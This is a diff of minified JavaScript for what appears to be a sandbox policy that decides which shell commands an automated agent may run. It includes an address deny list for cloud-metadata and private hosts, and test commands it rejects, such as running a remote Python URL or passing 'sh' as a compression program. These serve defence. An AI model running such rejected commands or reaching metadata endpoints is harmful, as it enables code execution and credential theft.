+/8 127.0.0.0/8 169.254.0.0/16 224.0.0.0/3 100.100.100.200/32 168.63.129.16/32 192.0.0.192/32"),ipv6:h("ipv6","::/80 fe80\
+::/10 fec0::/10 ff00::/8 fd00:ec2::254/128 64:ff9b::/96 64:ff9b:1::/48 2002::/16")};function h(k,w){const f=new(e()).BlockList;
+for(const u of w.split(" ")){const[E="",x]=u.split("/");f.addSubnet(E,Number(x),k)}return f}const _=/(?:^|\.)(?:localhost|local|internal|localdomain)$|^(?:ip6-)?loopback$|^metadata$/i,
+v=/^(?!-)[a-z0-9_-]{1,63}(?<!-)$/i;function b(k){const w=k.replace(/\.$/,"");if(w===""||w.length>253||_.test(w))return!1;
+const f=w.split(".");return f.every(u=>v.test(u))&&!/^(?:\d+|0x[\da-f]*)$/i.test(f.at(-1)??"")}function d(k){if((0,e().isIP)(
+k)===0)return b(k);const w=(0,e().isIPv4)(k)?"ipv4":"ipv6";return!k.includes("%")&&!p[w].check(k,w)}function S(k){const f=/^https?:\/\/(\[[0-9a-f:.]+\]|[\w.-]+)(?::\d{1,5})?(?:[/?#][\w\-.~:/?#@!$&'()*+,;=%]*)?$/i.
+exec(k)?.[1];return f!==void 0&&URL.canParse(k)&&d(f.replace(/^\[|\]$/g,""))}},55595:function(A,t){Object.defineProperty(
 t,"__esModule",{value:!0}),t.cargo=void 0;const s="warnings|clippy::~|rustdoc::~|unused~|dead_code|deprecated~|missing~|\
 unsafe~|nonstandard_style",n={operands:"text",behind:{flags:{text:"exact ignored include-ignored nocapture quiet,q show-\
-output skip= test-threads=","only-prints":"list"}},flags:{"skips-tests":"no-run"}},i=t.cargo={risk:"write",alone:"only-p\
+output skip= test-threads=","only-prints":"list"}},flags:{"skips-tests":"no-run"}},c=t.cargo={risk:"write",alone:"only-p\
 rints",flags:{text:`
       color= frozen locked offline quiet,q verbose,v all all-features all-targets bench? benches bin? bins doc
       example? examples exclude= F,features= jobs,j= keep-going lib message-format= no-default-features no-deps
@@ -428,7 +445,7 @@ rints",flags:{text:`
 help","uses-network":"install uninstall add remove update fetch vendor init new publish audit outdated","writes-files":"\
 package clean fix"},subcommands:{"test,t,bench":n,"build,b,check,c,run,r":{operands:"text"},"doc,d":{operands:"text",flags:{
 text:"document-private-items","outside-code":"open"}},clippy:{operands:"text",flags:{"tool-writes":"fix allow-dirty allo\
-w-staged allow-no-vcs"},behind:{flags:{text:"no-deps",choice:["D","W","A","F","deny","warn","allow","forbid"].map(a=>`${a}\
+w-staged allow-no-vcs"},behind:{flags:{text:"no-deps",choice:["D","W","A","F","deny","warn","allow","forbid"].map(r=>`${r}\
 =${s}`).join(" ")}}},fmt:{unless:{"tool-writes":"check"},flags:{text:"check edition=",config:"config-path="},behind:{flags:{
 text:"check edition= quiet,q verbose,v",config:"config-path="}}},"nextest run":{...n,flags:{text:"E,filterset= retries= \
 test-threads= partition=","skips-tests":"no-run no-tests="}}},directory_flags:["-C"],settings:[".cargo/config.toml",".ca\
@@ -565,8 +582,8 @@ s":"do-not-fail-on-empty-test-suite do-not-fail-on-warning do-not-fail-on-risky 
 tes list-groups list-tests list-tests-xml= atleast-version= check-version"},settings:["vendor"],build_files:["phpunit.xm\
 l","phpunit.xml.dist","phpunit.dist.xml","composer.json"],dependencies:s,match:["phpunit","phpunit --colors=never --filt\
 er testA tests/ATest.php"],not_match:["phpunit --bootstrap=../x.php","phpunit -c /etc/x.xml","phpunit --extension X"]}},
-26691:function(A,t,s){Object.defineProperty(t,"__esModule",{value:!0}),t.uv=t.ruff=t.mypy=void 0;function e(){const w=s(
-17093);return e=function(){return w},w}const n=t.ruff={alone:"only-prints",flags:{text:`
+26691:function(A,t,s){Object.defineProperty(t,"__esModule",{value:!0}),t.uv=t.ruff=t.mypy=void 0;function e(){const y=s(
+17093);return e=function(){return y},y}const n=t.ruff={alone:"only-prints",flags:{text:`
       check color= diff exclude= exit-non-zero-on-fix exit-non-zero-on-format extend-exclude= extend-ignore=
       extend-select= fixable= force-exclude ignore= ignore-noqa isolated line-length= no-cache,n
       output-format= per-file-ignores= preview quiet,q respect-gitignore select= silent,s statistics
@@ -577,7 +594,7 @@ er-ends":"watch,w","reads-stdin":"stdin-filename=",weakens:"exit-zero,e","only-p
 subcommands:{check:{},format:{unless:{"tool-writes":"check diff"}}},build_files:["ruff.toml",".ruff.toml","pyproject.tom\
 l"],dependencies:e().PYTHON_DEPENDENCIES,environment:{RUFF_NO_CACHE:"true"},match:["ruff check","ruff check src --select\
  E","ruff format --check","ruff check --fix"],not_match:["ruff check --watch","ruff check ../x","ruff clean","ruff nonse\
-nse"]},i=t.mypy={completes:!0,flags:{text:`
+nse"]},c=t.mypy={completes:!0,flags:{text:`
       allow-redefinition always-false= always-true= cache-fine-grained check-untyped-defs color-output
       disable-error-code= disallow-any-explicit disallow-any-expr disallow-any-generics
       disallow-any-unimported disallow-incomplete-defs disallow-subclassing-any disallow-untyped-calls
@@ -593,7 +610,7 @@ tml-report= linecount-report= txt-report= xml-report= junit-xml=","outside-code"
 e","reads-stdin":"pdb","only-prints":"find-occurrences= stats"},build_files:["mypy.ini",".mypy.ini","pyproject.toml","se\
 tup.cfg"],dependencies:e().PYTHON_DEPENDENCIES,environment:{...e().PYTHON_ENVIRONMENT,MYPY_FORCE_COLOR:"0"},match:["mypy\
  src","mypy --strict src","mypy -p package --no-incremental","mypy"],not_match:['mypy -c "1"',"mypy --python-executable=\
-./x src","mypy --config-file=/etc/x src"]},a=t.uv={extensions:"py",alone:"only-prints",flags:{text:`
+./x src","mypy --config-file=/etc/x src"]},r=t.uv={extensions:"py",alone:"only-prints",flags:{text:`
       active all-extras all-groups all-packages check exact extra= frozen group= isolated locked no-cache,n
       no-config no-default-groups no-dev no-editable no-env-file no-project no-sync offline only-dev
       only-group= package= prerelease= quiet,q resolution= verbose,v dev
@@ -612,14 +629,14 @@ conftest.py pytest.toml .pytest.toml pytest.ini .pytest.ini pyproject.toml tox.i
 sercustomize.py".split(" "),e=t.PYTHON_DEPENDENCIES=[{path:".venv",at:"anywhere"},{path:"venv",at:"anywhere"},{path:"__p\
 ypackages__",at:"root"},{path:".local/bin",at:"home"},{path:".local/lib",at:"home"},{path:".pyenv",at:"home",variable:"P\
 YENV_ROOT"}],n=t.PYTHON_ENVIRONMENT={PYTHONDONTWRITEBYTECODE:"1",PYTHONNOUSERSITE:"0",PIP_NO_INDEX:"1",PIP_DISABLE_PIP_VERSION_CHECK:"\
-1"},i=t.python={programs:["python","python3"],starts:"file",extensions:"py",alone:"reads-stdin",flags:{text:"b B d E I P\
+1"},c=t.python={programs:["python","python3"],starts:"file",extensions:"py",alone:"reads-stdin",flags:{text:"b B d E I P\
  q R s S u v W=",choice:"X=dev|utf8|utf8=1|importtime","outside-code":"x c+",weakens:"O OO",module:"m+","reads-stdin":"i",
 "only-prints":"help,h version,V help-all help-env help-xoptions ?"},started_programs:["pytest","ruff","mypy"],build_files:[
 "sitecustomize.py","usercustomize.py"],dependencies:e,environment:n,match:["python3 scripts/check.py --strict","python -\
 m pytest -q tests","python -B -W error scripts/check.py","python -X dev -Xutf8 -X importtime scripts/check.py","python -\
 m py_compile scripts/check.py"],not_match:['python -Ic "print(1)"',"python -","python -m pip install x","python -X presi\
 te=evil scripts/check.py","python -Xfrozen_modules=off scripts/check.py","python scripts/x.sh","python tool.pyz","python\
- -m py_compile -","python -m py_compile ../x.py","python https://x.test/y.py"]},a=t.pytest={operands:"tests",flags:{text:`\
+ -m py_compile -","python -m py_compile ../x.py","python https://x.test/y.py"]},r=t.pytest={operands:"tests",flags:{text:`\
 
       assert= cache-show? capture= color= deselect= doctest-continue-on-failure doctest-glob= doctest-modules
       durations= durations-min= exitfirst,x failed-first,ff full-trace import-mode= k= l showlocals
@@ -688,7 +705,7 @@ t.python=t.packages=void 0;const s={operands:"package...",network_touching:!0,wa
 "apt-get":{flags:{text:"y yes"},operands:"",subcommands:{update:{network_touching:!0},install:s},match:["apt-get update",
 "apt-get install -y jq"],not_match:["apt-get install ./x.deb","apt-get install -o x=y jq","apt-get remove jq"]}}},n={flags:{
 text:"q quiet v verbose U upgrade user no-deps pre force-reinstall no-cache-dir disable-pip-version-check outdated y for\
-mat="},operands:"package*",subcommands:{list:{},show:{},freeze:{},check:{},install:s}},i=t.python={workspace:{pip:{...n,
+mat="},operands:"package*",subcommands:{list:{},show:{},freeze:{},check:{},install:s}},c=t.python={workspace:{pip:{...n,
 match:["pip list","pip install --force-reinstall x"],not_match:["pip install ../x","pip install git+https://x/y","pip"]},
 pip3:{...n,match:["pip3 list"],not_match:["pip3 install ../x"]},python3:{forms:{"--version":{},"-V":{},"--help":{},"{scr\
 ipt} {argument*}":{risk:"write"}},match:["python3 tool.py --verbose","python3 --version"],not_match:['python3 -c "print(\
@@ -734,129 +751,129 @@ rt -o out notes.md","sort","sort -","sort --compress-program=sh a"]},tail:{...s,
 input",curated:{flags:{text:"c d u"}},match:["uniq -c notes.md"],not_match:["uniq notes.md out.txt","uniq","uniq -"]},wc:{
 flags:{text:"c l w m L bytes chars lines words max-line-length"},operands:"input...",curated:{flags:{text:"c l w"}},match:[
 "wc -cl notes.md"],not_match:["wc --files0-from=x","wc -l","wc -"]}}}},60842:function(A,t){Object.defineProperty(t,"__es\
-Module",{value:!0}),t.VALUE_KINDS=t.REASONS=t.OPERAND_KINDS=void 0,t.isReason=i;const s=t.REASONS=["outside-code","uses-\
+Module",{value:!0}),t.VALUE_KINDS=t.REASONS=t.OPERAND_KINDS=void 0,t.isReason=c;const s=t.REASONS=["outside-code","uses-\
 network","writes-files","tool-writes","only-prints","checks-syntax-only","never-ends","skips-tests","weakens","reads-std\
 in"],e=t.VALUE_KINDS=["text","choice","path","config","output","tests","code","preload","module","node"],n=t.OPERAND_KINDS=
-["path","text","tests","import"];function i(a){return s.includes(a)}},87952:function(A,t,s){Object.defineProperty(t,"__e\
-sModule",{value:!0}),t.FAMILIES=void 0,t.additionsFor=se,t.dependencyFolders=X,t.homeDependencies=ae,t.isNamedCurated=K,
-t.namesWithFlags=D,t.packsOf=R,t.programNames=W,t.programTerms=q,t.registryOf=N,t.sandboxProgram=Z;function e(){const T=s(
-67147);return e=function(){return T},T}function n(){const T=s(55595);return n=function(){return T},T}function i(){const T=s(
-42457);return i=function(){return T},T}function a(){const T=s(95184);return a=function(){return T},T}function w(){const T=s(
-41709);return w=function(){return T},T}function g(){const T=s(62156);return g=function(){return T},T}function o(){const T=s(
-42991);return o=function(){return T},T}function h(){const T=s(17093);return h=function(){return T},T}function c(){const T=s(
-26691);return c=function(){return T},T}function r(){const T=s(58747);return r=function(){return T},T}function u(){const T=s(
-64849);return u=function(){return T},T}function f(){const T=s(57214);return f=function(){return T},T}function d(){const T=s(
-24628);return d=function(){return T},T}function S(){const T=s(68901);return S=function(){return T},T}function k(){const T=s(
-77505);return k=function(){return T},T}function v(){const T=s(64111);return v=function(){return T},T}function b(){const T=s(
-88220);return b=function(){return T},T}function _(){const T=s(91063);return _=function(){return T},T}function y(){const T=s(
-92739);return y=function(){return T},T}const m={archives:l(r().archives),build:p({cargo:n().cargo,go:i().go,make:w().make}),
-files:l(u().files),git:l(f().git),javascript:p({bun:a().bun,deno:a().deno,pnpm:g().pnpm,yarn:g().yarn}),network:l(d().network),
-packages:l(S().packages),php:p({php:o().php,phpunit:o().phpunit}),python:[...l(S().python),...p({mypy:c().mypy,pytest:h().
-pytest,python:h().python,ruff:c().ruff,uv:c().uv})],system:l(k().system),text:l(v().text)};function p(T){return Object.entries(
-T).map(([I,C])=>({name:I,evolver:C}))}function l({curated:T,workspace:I,both:C}){const P=(L={},U)=>Object.entries(L).map(
-([G,J])=>({name:G,sandbox:{...J,only:U}}));return[...P(T,"curated"),...P(I,"workspace"),...P(C)]}const E=t.FAMILIES=Object.
-entries(m).flatMap(([T,I])=>I.map(C=>({...C,category:T}))).sort((T,I)=>T.name<I.name?-1:1);let x;const j=new WeakMap;function N(T=[]){
-if(x??=new Map(E.map(P=>[P.name,$(P)])),T.length===0)return x;const I=j.get(T);if(I!==void 0)return I;const C=new Map(x);
-for(const P of T){const L=C.get(P.name);C.set(P.name,{...L,...$(P,L?.category)})}return j.set(T,C),C}const O="other";function $(T,I=O){
-const C=b().familySchema.parse(T);return{...C,category:C.category??I}}function R(T){return[...new Set([...E,...T].map(({
-category:I=O})=>I))]}function M(T){return[...N(T).values()].flatMap(I=>{const{evolver:C,name:P}=I;return C===void 0?[]:(C.
-programs??[P]).map(L=>({word:L,family:I,evolver:C}))})}function D(T){return[...y().TOOLS.keys(),...M(T).map(({word:I})=>I)]}
-function W(T){const I=M(T).flatMap(({word:P,family:L})=>[L.name,P]),C=[...N(T).values()].filter(B);return[...new Set([...I,
-...C.map(({name:P})=>P)])]}function K(T,{programs:I,families:C}){if(!I.includes(T))return!1;const P=N(C).get(T);return P!==
-void 0&&B(P)}function B({evolver:T,sandbox:I}){return T===void 0&&I!==void 0&&I.only!=="workspace"&&I.maturity!=="blocke\
-d"}function Z(T,I,C){const P=N(C).get(I),{only:L=T,curated:U,...G}=P?.sandbox??{};if(!(P?.sandbox===void 0||L!==T))return T===
-"workspace"||U===void 0?{...G,family:P}:{...G,...U,family:P}}function z({word:T,family:I},C){return C.includes(T)||C.includes(
-I.name)}const V=new WeakMap;function q(T){const I=V.get(T);if(I!==void 0)return I;const{programs:C,families:P,tool_flags:L={},
-make_variables:U=[]}=T,G=new Map,J=new Map;for(const F of C.length===0?[]:M(P)){const{variables:H}=F.evolver,oe=H?{...F.
-evolver,variables:[...H,...U]}:F.evolver,ne=(0,_().programFamily)(F.word,oe,Y(L[F.word]));G.set(F.word,ne),z(F,C)&&J.set(
-F.word,ne)}let ee;const te={tools:(0,y().toolsWith)(new Map(Object.entries(L).map(([F,H])=>[F,Y(H)]))),allowed:J,known:G,
-offered:F=>(ee??=new Map(M(P).map(H=>[H.word,H.family.name])),ee.get(F))};return V.set(T,te),te}function Y(T=[]){const I=new Map(
-T.map(({flag:P,value:L})=>[(0,_().flagKey)(P.replace(/^-+/,"")),L])),C=(P,L)=>[...I].flatMap(([U,G])=>G===P?`${U}${L}`:[]);
+["path","text","tests","import"];function c(r){return s.includes(r)}},87952:function(A,t,s){Object.defineProperty(t,"__e\
+sModule",{value:!0}),t.FAMILIES=void 0,t.additionsFor=se,t.dependencyFolders=X,t.homeDependencies=oe,t.isNamedCurated=K,
+t.namesWithFlags=F,t.packsOf=R,t.programNames=G,t.programTerms=q,t.registryOf=N,t.sandboxProgram=Z;function e(){const O=s(
+67147);return e=function(){return O},O}function n(){const O=s(55595);return n=function(){return O},O}function c(){const O=s(
+42457);return c=function(){return O},O}function r(){const O=s(95184);return r=function(){return O},O}function y(){const O=s(
+41709);return y=function(){return O},O}function g(){const O=s(62156);return g=function(){return O},O}function o(){const O=s(
+42991);return o=function(){return O},O}function l(){const O=s(17093);return l=function(){return O},O}function m(){const O=s(
+26691);return m=function(){return O},O}function a(){const O=s(58747);return a=function(){return O},O}function i(){const O=s(
+64849);return i=function(){return O},O}function p(){const O=s(57214);return p=function(){return O},O}function h(){const O=s(
+24628);return h=function(){return O},O}function _(){const O=s(68901);return _=function(){return O},O}function v(){const O=s(
+77505);return v=function(){return O},O}function b(){const O=s(64111);return b=function(){return O},O}function d(){const O=s(
+88220);return d=function(){return O},O}function S(){const O=s(91063);return S=function(){return O},O}function k(){const O=s(
+92739);return k=function(){return O},O}const w={archives:u(a().archives),build:f({cargo:n().cargo,go:c().go,make:y().make}),
+files:u(i().files),git:u(p().git),javascript:f({bun:r().bun,deno:r().deno,pnpm:g().pnpm,yarn:g().yarn}),network:u(h().network),
+packages:u(_().packages),php:f({php:o().php,phpunit:o().phpunit}),python:[...u(_().python),...f({mypy:m().mypy,pytest:l().
+pytest,python:l().python,ruff:m().ruff,uv:m().uv})],system:u(v().system),text:u(b().text)};function f(O){return Object.entries(
+O).map(([I,C])=>({name:I,evolver:C}))}function u({curated:O,workspace:I,both:C}){const P=(L={},U)=>Object.entries(L).map(
+([W,J])=>({name:W,sandbox:{...J,only:U}}));return[...P(O,"curated"),...P(I,"workspace"),...P(C)]}const E=t.FAMILIES=Object.
+entries(w).flatMap(([O,I])=>I.map(C=>({...C,category:O}))).sort((O,I)=>O.name<I.name?-1:1);let x;const j=new WeakMap;function N(O=[]){
+if(x??=new Map(E.map(P=>[P.name,$(P)])),O.length===0)return x;const I=j.get(O);if(I!==void 0)return I;const C=new Map(x);
+for(const P of O){const L=C.get(P.name);C.set(P.name,{...L,...$(P,L?.category)})}return j.set(O,C),C}const T="other";function $(O,I=T){
+const C=d().familySchema.parse(O);return{...C,category:C.category??I}}function R(O){return[...new Set([...E,...O].map(({
+category:I=T})=>I))]}function M(O){return[...N(O).values()].flatMap(I=>{const{evolver:C,name:P}=I;return C===void 0?[]:(C.
+programs??[P]).map(L=>({word:L,family:I,evolver:C}))})}function F(O){return[...k().TOOLS.keys(),...M(O).map(({word:I})=>I)]}
+function G(O){const I=M(O).flatMap(({word:P,family:L})=>[L.name,P]),C=[...N(O).values()].filter(B);return[...new Set([...I,
+...C.map(({name:P})=>P)])]}function K(O,{programs:I,families:C}){if(!I.includes(O))return!1;const P=N(C).get(O);return P!==
+void 0&&B(P)}function B({evolver:O,sandbox:I}){return O===void 0&&I!==void 0&&I.only!=="workspace"&&I.maturity!=="blocke\
+d"}function Z(O,I,C){const P=N(C).get(I),{only:L=O,curated:U,...W}=P?.sandbox??{};if(!(P?.sandbox===void 0||L!==O))return O===
+"workspace"||U===void 0?{...W,family:P}:{...W,...U,family:P}}function z({word:O,family:I},C){return C.includes(O)||C.includes(
+I.name)}const V=new WeakMap;function q(O){const I=V.get(O);if(I!==void 0)return I;const{programs:C,families:P,tool_flags:L={},
+make_variables:U=[]}=O,W=new Map,J=new Map;for(const D of C.length===0?[]:M(P)){const{variables:H}=D.evolver,ae=H?{...D.
+evolver,variables:[...H,...U]}:D.evolver,ne=(0,S().programFamily)(D.word,ae,Y(L[D.word]));W.set(D.word,ne),z(D,C)&&J.set(
+D.word,ne)}let ee;const te={tools:(0,k().toolsWith)(new Map(Object.entries(L).map(([D,H])=>[D,Y(H)]))),allowed:J,known:W,
+offered:D=>(ee??=new Map(M(P).map(H=>[H.word,H.family.name])),ee.get(D))};return V.set(O,te),te}function Y(O=[]){const I=new Map(
+O.map(({flag:P,value:L})=>[(0,S().flagKey)(P.replace(/^-+/,"")),L])),C=(P,L)=>[...I].flatMap(([U,W])=>W===P?`${U}${L}`:[]);
 return{text:[...C("none",""),...C("text","=")].join(" "),tests:C("path","=").join(" ")}}const Q={path:"node_modules",at:"\
-anywhere"};function X(T){if(T.programs.length===0)return[Q];const I=[...q(T).allowed.values()],C=[Q,...I.flatMap(({data:P})=>P.
-dependencies)];return[...new Map(C.map(P=>[`${P.at} ${P.path}`,P])).values()]}function se(T){return(0,e().additionsOf)(T.
-build_outputs,X(T))}function ae(T){return X(T).flatMap(({at:I,path:C})=>I==="home"?[C]:[])}},88220:function(A,t,s){Object.
+anywhere"};function X(O){if(O.programs.length===0)return[Q];const I=[...q(O).allowed.values()],C=[Q,...I.flatMap(({data:P})=>P.
+dependencies)];return[...new Map(C.map(P=>[`${P.at} ${P.path}`,P])).values()]}function se(O){return(0,e().additionsOf)(O.
+build_outputs,X(O))}function oe(O){return X(O).flatMap(({at:I,path:C})=>I==="home"?[C]:[])}},88220:function(A,t,s){Object.
 defineProperty(t,"__esModule",{value:!0}),t.familySchema=t.addedFlagsSchema=t.FAMILY_WARNINGS=void 0;function e(){const $=s(
-7723);return e=function(){return $},$}function n(){const $=s(78374);return n=function(){return $},$}function i(){const $=s(
-13970);return i=function(){return $},$}function a(){const $=s(35672);return a=function(){return $},$}function w(){const $=s(
-55972);return w=function(){return $},$}function g(){const $=s(60842);return g=function(){return $},$}const o=t.FAMILY_WARNINGS=
+7723);return e=function(){return $},$}function n(){const $=s(78374);return n=function(){return $},$}function c(){const $=s(
+13970);return c=function(){return $},$}function r(){const $=s(35672);return r=function(){return $},$}function y(){const $=s(
+55972);return y=function(){return $},$}function g(){const $=s(60842);return g=function(){return $},$}const o=t.FAMILY_WARNINGS=
 ["network_touching","archive_extraction_overwrite","archive_creation_overwrite","env_secrets","recursive_deletion","broa\
-d_permission_target","writes_files"],h=e().enum(o),c=e().string().regex(/^[A-Za-z0-9][\w.+-]*$/,"expected the name of a \
-program"),r=e().string().regex(/^(?![\\/]|[A-Za-z]:)(?!(?:.*[\\/])?\.\.(?:[\\/]|$))[^\\]+$/,"expected a relative path wi\
-thout .."),u=e().string().regex(/^-\S*$/,"expected a flag, such as -n or --name"),f=e().array(u).readonly(),d=e().strictObject(
+d_permission_target","writes_files"],l=e().enum(o),m=e().string().regex(/^[A-Za-z0-9][\w.+-]*$/,"expected the name of a \
+program"),a=e().string().regex(/^(?![\\/]|[A-Za-z]:)(?!(?:.*[\\/])?\.\.(?:[\\/]|$))[^\\]+$/,"expected a relative path wi\
+thout .."),i=e().string().regex(/^-\S*$/,"expected a flag, such as -n or --name"),p=e().array(i).readonly(),h=e().strictObject(
 {flag:e().string().regex(/^--?[A-Za-z0-9][\w.:-]*$/,"expected a flag such as --name").describe("As it is written, with i\
 ts dashes."),value:e().enum(["none","path","text"]).describe("Its value: none, a path of the repository, or any other te\
-xt.")}),S=t.addedFlagsSchema=e().record(e().string().min(1),e().array(d).min(1)),k={match:e().array(e().string()).min(1).
+xt.")}),_=t.addedFlagsSchema=e().record(e().string().min(1),e().array(h).min(1)),v={match:e().array(e().string()).min(1).
 describe("Commands that the family must accept."),not_match:e().array(e().string()).min(1).describe("Commands that the f\
-amily must reject.")},v=e().enum(g().REASONS),b=Object.keys(w().KINDS),_="names without dashes, separated by blanks",y="\
+amily must reject.")},b=e().enum(g().REASONS),d=Object.keys(y().KINDS),S="names without dashes, separated by blanks",k="\
 A comma separates spellings, a mark behind a name is its value: `=` required, `?` optional, `?=` attached, `*` several, \
-`+` all following words, `=a|b` one of these; `~` stands for any end.",m={flags:e().partialRecord(e().enum(b),e().string()).
-optional().describe(`The accepted flags by the kind of their values: ${_}. ${y}`),operands:e().string().refine($=>(0,a().
+`+` all following words, `=a|b` one of these; `~` stands for any end.",w={flags:e().partialRecord(e().enum(d),e().string()).
+optional().describe(`The accepted flags by the kind of their values: ${S}. ${k}`),operands:e().string().refine($=>(0,r().
 parseOperands)($)!==void 0,{error:"expected kinds such as path; a kind with ? * or ... only at the end"}).optional().describe(
-"Kinds in order; the last may end with `?` (optional), `...` (one or more) or `*` (any number). Default: `path*`."),risk:i().
-riskSchema.optional().describe("Default: safe."),warnings:e().array(h).readonly().optional(),network_touching:e().boolean().
-optional()},p={...m,leading_flags:f.optional().describe("Flags before the operands; all others are behind them."),first_operand_by:f.
-optional().describe("With one of these flags, there is no first operand."),last_operand_by:f.optional().describe("With o\
+"Kinds in order; the last may end with `?` (optional), `...` (one or more) or `*` (any number). Default: `path*`."),risk:c().
+riskSchema.optional().describe("Default: safe."),warnings:e().array(l).readonly().optional(),network_touching:e().boolean().
+optional()},f={...w,leading_flags:p.optional().describe("Flags before the operands; all others are behind them."),first_operand_by:p.
+optional().describe("With one of these flags, there is no first operand."),last_operand_by:p.optional().describe("With o\
 ne of these flags, the last operand may be absent."),default_operand:e().string().optional().describe("The path that the\
- program uses by default."),flag_warnings:e().record(e().string(),h).optional(),dangerous_targets:e().array(e().string()).
+ program uses by default."),flag_warnings:e().record(e().string(),l).optional(),dangerous_targets:e().array(e().string()).
 readonly().optional(),forbidden_prefixes:e().array(e().string()).readonly().optional(),forms:e().record(e().string(),e().
-strictObject(m)).refine($=>Object.keys($).every(R=>(0,a().parseForm)(R)!==void 0),{error:"expected words and placeholder\
+strictObject(w)).refine($=>Object.keys($).every(R=>(0,r().parseForm)(R)!==void 0),{error:"expected words and placeholder\
 s such as {path}; {source...} only at the end"}).optional().describe("The only accepted words after the program: literal\
 , or {kind}, {count:1-10}, and {kind...} at the end; with what differs from the program."),subcommands:e().record(e().string(),
-e().strictObject(m)).optional().describe("The only accepted first words, with what differs from the program.")},l=e().strictObject(
-{...p,only:e().enum(["curated","workspace"]).optional().describe("The only profile that accepts the program. Default: bo\
-th."),curated:e().strictObject(p).optional().describe("What replaces the keys above in the `curated` profile."),maturity:e().
+e().strictObject(w)).optional().describe("The only accepted first words, with what differs from the program.")},u=e().strictObject(
+{...f,only:e().enum(["curated","workspace"]).optional().describe("The only profile that accepts the program. Default: bo\
+th."),curated:e().strictObject(f).optional().describe("What replaces the keys above in the `curated` profile."),maturity:e().
 enum(["structured","direct_only","experimental_only","blocked"]).optional(),platforms:e().array(n().platformSchema).optional(),
-...k}),E=["file","package","program","node","command","script","own-script","tool","script-or-tool","script-tool-or-file",
+...v}),E=["file","package","program","node","command","script","own-script","tool","script-or-tool","script-tool-or-file",
 "command-texts","npm-scripts"],x={flags:e().partialRecord(e().enum([...g().VALUE_KINDS,...g().REASONS]),e().string()).optional().
-describe(`Flags by the kind of their values, or by why they are refused: ${_}. ${y}`),operands:e().enum(g().OPERAND_KINDS).
-optional().describe("The kind of all operands. Default: path."),refused:e().partialRecord(v,e().string()).optional().describe(
-`First operands by why they are refused: ${_}; \`~\` stands for any end.`),starts:e().enum(E).optional().describe("What \
-the first operand is, if the program runs it."),unless:e().partialRecord(v,e().string()).optional().describe("Refused fo\
-r a reason, unless one of these flags is set."),alone:v.optional().describe("What it does without an operand or subcomma\
+describe(`Flags by the kind of their values, or by why they are refused: ${S}. ${k}`),operands:e().enum(g().OPERAND_KINDS).
+optional().describe("The kind of all operands. Default: path."),refused:e().partialRecord(b,e().string()).optional().describe(
+`First operands by why they are refused: ${S}; \`~\` stands for any end.`),starts:e().enum(E).optional().describe("What \
+the first operand is, if the program runs it."),unless:e().partialRecord(b,e().string()).optional().describe("Refused fo\
+r a reason, unless one of these flags is set."),alone:b.optional().describe("What it does without an operand or subcomma\
 nd."),any_package:e().boolean().optional(),skips:e().int().nonnegative().optional(),variables:e().array(e().string()).optional()},
 j=e().strictObject({...x,behind:e().strictObject({flags:x.flags}).optional().describe("The flags that may stand behind `\
---`; default: operands.")}),N=e().strictObject({...x,programs:e().array(c).optional().describe("The words that start the\
- program; default: the name of the family."),risk:i().riskSchema.default("safe"),completes:e().boolean().default(!1).describe(
+--`; default: operands.")}),N=e().strictObject({...x,programs:e().array(m).optional().describe("The words that start the\
+ program; default: the name of the family."),risk:c().riskSchema.default("safe"),completes:e().boolean().default(!1).describe(
 "Flags may be written by their beginning, as for getopt and argparse."),subcommands:e().record(e().string().regex(/^\S+(?: \S+)*$/),
 j).default({}).describe("By name; a comma separates spellings, a blank the words of a nested subcommand."),extensions:e().
 string().optional().describe("Extensions of the files that it may run, besides files without one."),dependency_tools:e().
-array(c).default([]),started_programs:e().array(c).default([]),directory_flags:e().array(u).default([]),selecting_flags:e().
-array(u).default([]),settings:e().array(r).default([]).describe("Files and folders, from the working directory up, that \
-can give a command another meaning: a change must not edit them."),build_files:e().array(r).default([]).describe("Files \
-of the commit that decide what the program does; `*` matches in a name."),dependencies:e().array(e().strictObject({path:r,
+array(m).default([]),started_programs:e().array(m).default([]),directory_flags:e().array(i).default([]),selecting_flags:e().
+array(i).default([]),settings:e().array(a).default([]).describe("Files and folders, from the working directory up, that \
+can give a command another meaning: a change must not edit them."),build_files:e().array(a).default([]).describe("Files \
+of the commit that decide what the program does; `*` matches in a name."),dependencies:e().array(e().strictObject({path:a,
 at:e().enum(["root","anywhere","home"]),variable:e().string().regex(/^[A-Z][A-Z0-9_]*$/).optional()})).default([]).describe(
 "Where its dependencies are, outside of the commit."),environment:e().record(e().string().regex(/^[A-Za-z_]\w*$/),e().string()).
-default({}).describe("Variables that are set for the program."),...k}),O=t.familySchema=e().strictObject({name:c,category:e().
+default({}).describe("Variables that are set for the program."),...v}),T=t.familySchema=e().strictObject({name:m,category:e().
 string().min(1).optional().describe("The pack, for `disabled_packs`; default: the pack of the built-in family of the sam\
 e name, or `other`."),notes:e().string().optional(),evolver:N.optional().describe("For the default profile, which accept\
-s the program if `programs` names it."),sandbox:l.optional().describe("For the `curated` and `workspace` profiles. Defau\
+s the program if `programs` names it."),sandbox:u.optional().describe("For the `curated` and `workspace` profiles. Defau\
 lt: neither accepts the program.")})},91063:function(A,t){Object.defineProperty(t,"__esModule",{value:!0}),t.NO_PROGRAMS=
-void 0,t.flagKey=i,t.groupsByName=n,t.isKnownTool=a,t.lookUp=f,t.movesTo=w,t.nameTable=e,t.programFamily=o,t.strictFlags=
-c,t.useTable=g;const s=[["?=","attached"],["=","value"],["?","optional"],["*","many"],["+","rest"]];function e(k,v=b=>b){
-const b=new Map;for(const[_,y]of Object.entries(k))for(const m of y.split(/\s+/).filter(Boolean)){const[,p=m,l]=/^([^=]+=)(.+)$/s.
-exec(m)??[],[E,x]=s.find(([O])=>p.endsWith(O))??["","none"],[j="",...N]=p.slice(0,p.length-E.length).split(",");for(const O of[
-j,...N]){const $=v(O);if(b.has($))throw new Error(`flag ${O} stands in two groups`);b.set($,{name:j,kind:_,arity:x,...l&&
-{choices:l.split("|")}})}}return b}function n(k){return new Map([...e(k)].map(([v,{kind:b}])=>[v,b]))}function i(k){return k.
-length===1?k:k.replace(/[-_]/g,"").toLowerCase()}function a({known:k,refusal:v},b){return k(b)!==void 0||v(b)!==void 0}function w({
-data:k},v){const b=k.completes&&v.startsWith("--");return k.directory_flags.some(_=>_===v||b&&_.startsWith(v))}function g(k,v=[]){
-const{flags:b,starts:_,behind:y}=k,m=_!==void 0&&_!=="command-texts"&&_!=="npm-scripts";return{...u([b,...v,r]),stops:m,
